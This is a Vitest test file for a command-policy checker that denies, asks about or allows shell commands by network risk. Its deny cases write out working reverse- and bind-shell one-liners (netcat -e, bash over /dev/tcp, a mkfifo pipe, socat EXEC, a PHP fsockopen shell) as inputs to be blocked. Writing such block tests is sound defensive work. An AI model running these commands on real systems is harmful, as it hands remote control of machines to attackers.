import { describe, expect, it } from "vitest";
import { verdict } from "../__fixtures__/decide.js";

describe("network rules", () => {
  it("deny shells handed to the network", () => {
    expect(verdict("nc -lvp 4444 -e /bin/sh")).toBe("deny net.netcat-exec");
    expect(verdict("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")).toBe("deny net.reverse-shell");
    expect(verdict("mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 4444 > f")).toBe("deny net.reverse-shell");
    expect(verdict("socat TCP:10.0.0.1:4444 EXEC:/bin/bash")).toBe("deny net.socat-shell");
    expect(verdict("php -r '$s=fsockopen(\"1.2.3.4\",1);exec(\"/bin/sh -i <&3 >&3\");'")).toBe("deny net.reverse-shell");
  });

  it("ask for tunnels, raw connections and planted keys", () => {
    expect(verdict("ssh -R 8080:localhost:22 host")).toBe("ask net.reverse-tunnel");
    expect(verdict("cat < /dev/tcp/example.com/80")).toBe("ask net.dev-tcp");
  });

  it("allow ordinary network use", () => {
    for (const command of ["nc -zv localhost 5432", "ssh -L 5432:localhost:5432 db", "curl localhost:3000", "socat - TCP:localhost:6379"]) {
      expect(verdict(command), command).toBe("allow");
    }
  });
});
